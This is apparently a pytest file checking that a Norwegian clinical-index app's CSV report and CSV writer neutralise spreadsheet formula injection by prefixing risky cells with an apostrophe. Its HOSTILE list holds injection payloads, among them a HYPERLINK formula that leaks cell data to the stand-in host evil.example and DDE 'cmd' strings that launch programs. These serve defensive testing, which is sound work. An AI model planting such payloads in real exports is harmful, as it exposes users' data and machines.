"""CSV cells are never spreadsheet formulas: the report (also the app's «Eksporter rapport») and any CSV writer."""

from __future__ import annotations

import csv
import json

import pytest

from index import api
from index.cleanup import report
from index.ingest.safetext import csv_cell, write_csv
from index.records import Tier

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Klikk\")", "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_cell_gets_an_apostrophe_and_keeps_its_text(value):
    assert csv_cell(value) == "'" + value


def test_plain_text_and_numbers_are_unchanged():
    assert csv_cell("Perifert venekateter – «PVK»") == "Perifert venekateter – «PVK»"
    assert csv_cell("a=b") == "a=b" and csv_cell(-3) == -3 and csv_cell(0.5) == 0.5


def test_write_csv_quotes_text_so_a_separator_cannot_open_a_new_cell(tmp_path):
    path = write_csv(tmp_path / "x.csv", ["title", "n"], [["Tittel;=1+1", 3], ["=2+2", 4]])
    text = path.read_text(encoding="utf-8-sig")
    assert '"Tittel;=1+1",3' in text and "\"'=2+2\",4" in text  # quoted: Norwegian Excel splits on ';'
    rows = list(csv.reader(text.splitlines()))
    assert rows[2] == ["'=2+2", "4"]


def test_the_report_neutralises_titles_owners_units_and_paths(tmp_path):
    body = "## Framgangsmåte\nMål blodtrykket på overarmen i hjertehøyde mens pasienten sitter i ro.\n"
    root = tmp_path / "src"
    (root / "var").mkdir(parents=True)
    (root / "local").mkdir()
    (root / "var/a.md").write_text("---\nid: v-a\ntitle: Blodtrykksmåling\nsource: var\nowner: VAR\n"
                                   "review_due: 2021-01-01\n---\n" + body, encoding="utf-8")
    meta = {"id": "l-a", "title": HOSTILE[0], "source": "local", "owner": "+Sengepost 3", "unit": "@Enhet",
            "review_due": "2021-01-01"}
    front = "".join(f"{k}: {json.dumps(v)}\n" for k, v in meta.items())  # JSON strings are YAML strings
    (root / "local/=cmd.md").write_text(f"---\n{front}---\n{body}", encoding="utf-8")
    index_dir = tmp_path / "index"
    api.build(index_dir, [(Tier.VAR, root / "var"), (Tier.LOCAL, root / "local")], use_model=False)
    with api.Engine(index_dir) as engine:
        written = api.write_report(engine, tmp_path / "out")
    cells = []
    for path in written:
        if path.suffix == ".csv":
            with open(path, encoding="utf-8-sig", newline="") as fh:
                cells += [c for row in csv.reader(fh) for c in row]
    assert "'" + HOSTILE[0] in cells
    assert "'+Sengepost 3" in cells and "'@Enhet" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert str(root / "local/=cmd.md") in cells  # the file's real path: "=" in the middle needs nothing
    assert {p.name for p in written} >= set(report.CSV_COLUMNS)
